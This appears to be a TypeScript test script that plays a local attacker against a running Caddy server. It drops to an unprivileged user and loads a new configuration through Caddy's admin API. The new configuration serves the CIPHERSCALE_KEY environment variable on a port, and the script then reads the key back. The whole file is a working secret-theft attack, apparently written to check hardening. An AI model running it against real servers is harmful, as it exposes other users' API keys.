// Has a running Caddy show its API key on a port, as another user of this machine would through the
// admin endpoint: `node local-attacker.ts <admin address> <port>`. Prints what came, or the failure.
import { request, type RequestOptions } from 'node:http'
import process from 'node:process'

const [admin = '', port = ''] = process.argv.slice(2)
process.setgid?.(65_533)
process.setuid?.(65_533)

function send(options: RequestOptions, body?: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const asked = request(options, (answer) => {
      let text = ''
      answer.on('data', (part: Buffer) => (text += String(part)))
      answer.on('end', () => resolve(text))
    })
    asked.on('error', reject)
    asked.end(body)
  })
}

// Caddy answers on a socket only if the header Host is empty.
const isSocket = admin.startsWith('unix/')
const address: RequestOptions = isSocket
  ? { socketPath: admin.slice('unix/'.length), setHost: false }
  : { host: 'localhost', port: admin.split(':')[1] }
const route = { handle: [{ handler: 'static_response', body: '{env.CIPHERSCALE_KEY}' }] }
const servers = { thief: { listen: [`127.0.0.1:${port}`], routes: [route] } }
const config = JSON.stringify({ admin: { listen: admin }, apps: { http: { servers } } })
const headers = { 'content-type': 'application/json', ...(isSocket && { host: '' }) }
try {
  await send({ ...address, method: 'POST', path: '/load', headers }, config)
  process.stdout.write(await send({ host: '127.0.0.1', port }))
} catch (error) {
  process.stdout.write(error instanceof Error && 'code' in error ? String(error.code) : 'failed')
}
